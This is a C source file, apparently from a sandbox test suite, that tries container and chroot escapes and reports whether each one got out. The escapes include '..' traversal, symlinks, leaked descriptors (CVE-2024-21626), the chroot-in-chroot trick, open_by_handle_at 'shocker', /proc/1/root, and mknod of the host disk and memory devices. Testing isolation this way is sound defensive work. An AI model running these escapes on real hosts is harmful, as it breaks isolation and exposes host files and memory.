/* SPDX-License-Identifier: LGPL-2.1-or-later */

/* Ways to files of the host that were not given to the job: around paths, by handles, by what others have open. */

#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#define UP "../../../../../../../../../../../.."

static Verdict secret_by_path(Attempt *a)
{
        char path[PATH_ROOM];

        if (file_says(AT_FDCWD, host_path(a, "secret", path), SECRET))
                return escaped(a, "it was read");
        return held(a, "%s", strerrorname_np(errno));
}

/* ---- around paths ---- */

static bool secret_below(const Attempt *a, int dir, const char *prefix)
{
        char path[2 * PATH_ROOM];

        snprintf(path, sizeof path, "%s%s/secret", prefix, given(a, "place"));
        return file_says(dir, path, SECRET);
}

static Verdict dots(Attempt *a)
{
        static const char *const starts[] = {UP, "/proc/self/cwd/" UP, "/proc/self/root/" UP, "/dev/fd/../../" UP,
                                             "/input/" UP, "/usr/" UP};

        if (secret_is_shown(a))
                return secret_shown(a);
        for (size_t i = 0; i < ELEMENTS(starts); i++)
                if (secret_below(a, AT_FDCWD, starts[i]))
                        return escaped(a, "by way of %s", starts[i]);
        return held(a, "%s", strerrorname_np(errno));
}

static Verdict links(Attempt *a)
{
        static const char *const targets[] = {("/" UP), UP, "/proc/1/root", "/proc/self/root", "/proc/1/cwd"};
        char link[PATH_ROOM];

        if (secret_is_shown(a))
                return secret_shown(a);
        snprintf(link, sizeof link, "%s/skep-escape-way-out", own_directory());
        for (size_t i = 0; i < ELEMENTS(targets); i++) {
                unlink(link);
                if (symlink(targets[i], link) == 0 && secret_below(a, AT_FDCWD, link))
                        return escaped(a, "by a link to %s", targets[i]);
        }
        unlink(link);
        return held(a, "%s", strerrorname_np(errno));
}

/* CVE-2024-21626: a directory of the host that somebody has left open, or as the working directory. */
static Verdict open_directories(Attempt *a)
{
        char start[64], cwd[PATH_MAX] = "";
        int seen = 0;

        if (secret_is_shown(a))
                return secret_shown(a);
        for (int fd = 0; fd < 1024; fd++) {
                if (fcntl(fd, F_GETFD) < 0)
                        continue;
                seen++;
                snprintf(start, sizeof start, "/proc/self/fd/%d/" UP, fd);
                if (secret_below(a, AT_FDCWD, start) || secret_below(a, fd, UP))
                        return escaped(a, "by way of descriptor %d", fd);
        }
        if (secret_below(a, AT_FDCWD, UP))
                return escaped(a, "by way of the working directory");
        if (getcwd(cwd, sizeof cwd) && cwd[0] != '/')
                return escaped(a, "the working directory is outside: %s", cwd);
        return held(a, "none of %d leads out", seen);
}

/* The old way out of a chroot: a descriptor above a root that was made deeper. */
static Verdict deeper_root(Attempt *a)
{
        char deeper[PATH_ROOM];
        int above = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

        if (secret_is_shown(a))
                return secret_shown(a);
        snprintf(deeper, sizeof deeper, "%s/skep-escape-deeper", own_directory());
        mkdir(deeper, 0755);
        if (chroot(deeper) < 0)
                return by_result(a, -1, "chroot");
        if (fchdir(above) < 0)
                return held(a, "fchdir: %s", strerrorname_np(errno));
        for (int i = 0; i < 64; i++)
                if (chdir("..") < 0)
                        break;
        if (chroot(".") == 0 && secret_below(a, AT_FDCWD, "/"))
                return escaped(a, "the root has been left");
        return held(a, "chroot is permitted, but above the root there is nothing");
}

/* ---- by handles ---- */

typedef struct Handle {
        unsigned bytes;
        int type;
        unsigned char handle[128];
} Handle;

/* TYPE:HEX, as the host's side has found it. */
static bool read_handle(const char *text, Handle *handle)
{
        char *at;

        handle->type = (int)strtol(text, &at, 10);
        if (*at != ':')
                return false;
        for (at++, handle->bytes = 0; at[0] && at[1] && handle->bytes < sizeof handle->handle; at += 2) {
                char byte[3] = {at[0], at[1], '\0'};
                handle->handle[handle->bytes++] = (unsigned char)strtol(byte, NULL, 16);
        }
        return handle->bytes > 0;
}

/* On any mount that is seen, since one of the host's file system is enough. */
static int open_handle(Handle *handle)
{
        static const char *const mounts[] = {"/usr", "/", "/input/escapes", "/etc/ld.so.cache", "/work", "/lib64"};
        int first = 0;

        for (size_t i = 0; i < ELEMENTS(mounts); i++) {
                int mount = open(mounts[i], O_RDONLY | O_CLOEXEC);
                int fd = mount < 0 ? -1 : (int)syscall(SYS_open_by_handle_at, mount, handle, O_RDONLY);
                if (!first && fd < 0)
                        first = errno;
                if (mount >= 0)
                        close(mount);
                if (fd >= 0)
                        return fd;
        }
        errno = first;
        return -1;
}

static Verdict secret_by_handle(Attempt *a)
{
        Handle handle;
        char link[64];

        if (!read_handle(given(a, "handle"), &handle))
                return not_applicable(a, "the host's file system has no handles");
        int fd = open_handle(&handle);
        if (fd < 0)
                return by_result(a, -1, "open_by_handle_at");
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        if (file_says(AT_FDCWD, link, SECRET))
                return escaped(a, "it was read");
        return held(a, "another file has that handle");
}

/* "shocker": the root of most file systems has the inode 2, and everything is below it. */
static Verdict root_by_handle(Attempt *a)
{
        Handle handle = {.bytes = 8, .type = 1, .handle = {2}};
        int fd = open_handle(&handle);

        if (fd < 0)
                return by_result(a, -1, "open_by_handle_at");
        return escaped(a, "a directory of the host was opened%s",
                       secret_below(a, fd, ".") ? ", and the secret read" : "");
}

/* ---- by process 1 ---- */

static Verdict root_of_1(Attempt *a)
{
        if (secret_is_shown(a))
                return secret_shown(a);
        if (secret_below(a, AT_FDCWD, "/proc/1/root") || secret_below(a, AT_FDCWD, "/proc/1/cwd/" UP))
                return escaped(a, "the secret was read through process 1");
        return held(a, "%s", strerrorname_np(errno));
}

static Verdict descriptors_of_1(Attempt *a)
{
        struct stat theirs, mine;
        char path[64];
        int error = 0;

        for (int n = 0; n < 256; n++) {
                bool same = false;
                snprintf(path, sizeof path, "/proc/1/fd/%d", n);
                int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
                if (fd < 0 && errno != ENOENT)
                        error = errno;
                if (fd < 0)
                        continue;
                fstat(fd, &theirs);
                for (int i = 0; i < 3 && !same; i++)
                        same = fstat(i, &mine) == 0 && mine.st_ino == theirs.st_ino && mine.st_dev == theirs.st_dev;
                close(fd);
                if (!same)
                        return escaped(a, "descriptor %d of process 1 was opened", n);
        }
        return held(a, "%s", error ? strerrorname_np(error) : "process 1 has none but ours");
}

/* ---- by devices ---- */

static Verdict opened_device(Attempt *a, const char *path, const char *what)
{
        char block[512];
        int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);

        if (fd < 0)
                return held(a, "the node was made, and opening it is %s", strerrorname_np(errno));
        ssize_t n = read(fd, block, sizeof block);
        close(fd);
        return escaped(a, "%s was opened, and %zd bytes read", what, n > 0 ? n : 0);
}

/* The disk that the host's files are on. */
static Verdict make_disk(Attempt *a)
{
        static const char *const places[] = {"/work", "/tmp", "/output", "/dev/shm", "/dev", "."};
        unsigned major = 0, minor = 0;
        char path[PATH_ROOM];

        if (sscanf(given(a, "device"), "%u:%u", &major, &minor) != 2 || major == 0)
                return not_applicable(a, "the host's files are not on a disk");
        for (size_t i = 0; i < ELEMENTS(places); i++) {
                snprintf(path, sizeof path, "%s/skep-escape-disk", places[i]);
                if (mknod(path, S_IFBLK | 0666, makedev(major, minor)) == 0)
                        return opened_device(a, path, "the host's disk");
        }
        return by_result(a, -1, "mknod");
}

static Verdict make_memory(Attempt *a)
{
        static const unsigned minors[] = {1 /* mem */, 2 /* kmem */, 4 /* port */, 11 /* kmsg */};
        char path[PATH_ROOM];

        for (size_t i = 0; i < ELEMENTS(minors); i++) {
                snprintf(path, sizeof path, "%s/skep-escape-device-%u", own_directory(), minors[i]);
                if (mknod(path, S_IFCHR | 0666, makedev(1, minors[i])) == 0)
                        return opened_device(a, path, "a device of the host's memory");
        }
        return by_result(a, -1, "mknod");
}

static Verdict open_devices(Attempt *a)
{
        static const char *const devices[] = {"/dev/mem",  "/dev/kmsg", "/dev/port", "/dev/vda",  "/dev/sda",
                                              "/dev/nvme0n1", "/dev/dm-0", "/dev/loop-control", "/dev/fuse",
                                              "/dev/kvm",  "/dev/vhost-net", "/dev/snapshot", "/dev/uinput",
                                              "/dev/input/event0", "/dev/dri/card0", "/dev/tty0", "/dev/console",
                                              "/dev/ttyS0", "/dev/hwrng", "/dev/vsock", "/dev/cpu/0/msr",
                                              "/dev/userfaultfd", "/dev/btrfs-control", "/dev/autofs", "/dev/rtc0",
                                              "/dev/watchdog", "/dev/mapper/control"};

        for (size_t i = 0; i < ELEMENTS(devices); i++) {
                int fd = open(devices[i], O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
                if (fd >= 0)
                        return escaped(a, "%s was opened", devices[i]);
        }
        return held(a, "none of %zu is there", ELEMENTS(devices));
}

/* ---- what the caller has in its environment ---- */

static Verdict own_environment(Attempt *a)
{
        const char *found = getenv("ESCAPES_SECRET");

        return found ? escaped(a, "the caller's environment is ours") : held(a, "the caller's is not there");
}

const Attack attacks_on_files[] = {
        {"secret-by-path", "read a file of the host that was not given", secret_by_path, NULL, 0, NULL},
        {"secret-by-dots", "read it by more \"..\" than there are directories", dots, NULL, 0, NULL},
        {"secret-by-link", "read it by symbolic links to what is above the root", links, NULL, 0, NULL},
        {"secret-by-descriptor", "read it by a directory left open (CVE-2024-21626)", open_directories, NULL, 0, NULL},
        {"secret-by-chroot", "read it by chroot below an open directory", deeper_root, NULL, 0, NULL},
        {"secret-by-handle", "read it by its true handle (open_by_handle_at)", secret_by_handle, NULL, 0, NULL},
        {"root-by-handle", "open the host's root by the handle of inode 2", root_by_handle, NULL, 0, NULL},
        {"secret-by-process-1", "read it through /proc/1/root and cwd", root_of_1, NULL, 0, NULL},
        {"descriptors-of-1", "open what process 1 has open", descriptors_of_1, NULL, 0, NULL},
        {"mknod-disk", "make a node of the host's disk, and read it", make_disk, NULL, 0, NULL},
        {"mknod-memory", "make nodes of mem, port and kmsg", make_memory, NULL, 0, NULL},
        {"open-devices", "open the host's devices by their usual names", open_devices, NULL, 0, NULL},
        {"environment", "find the caller's environment in the own", own_environment, NULL, 0, NULL},
        {0},
};
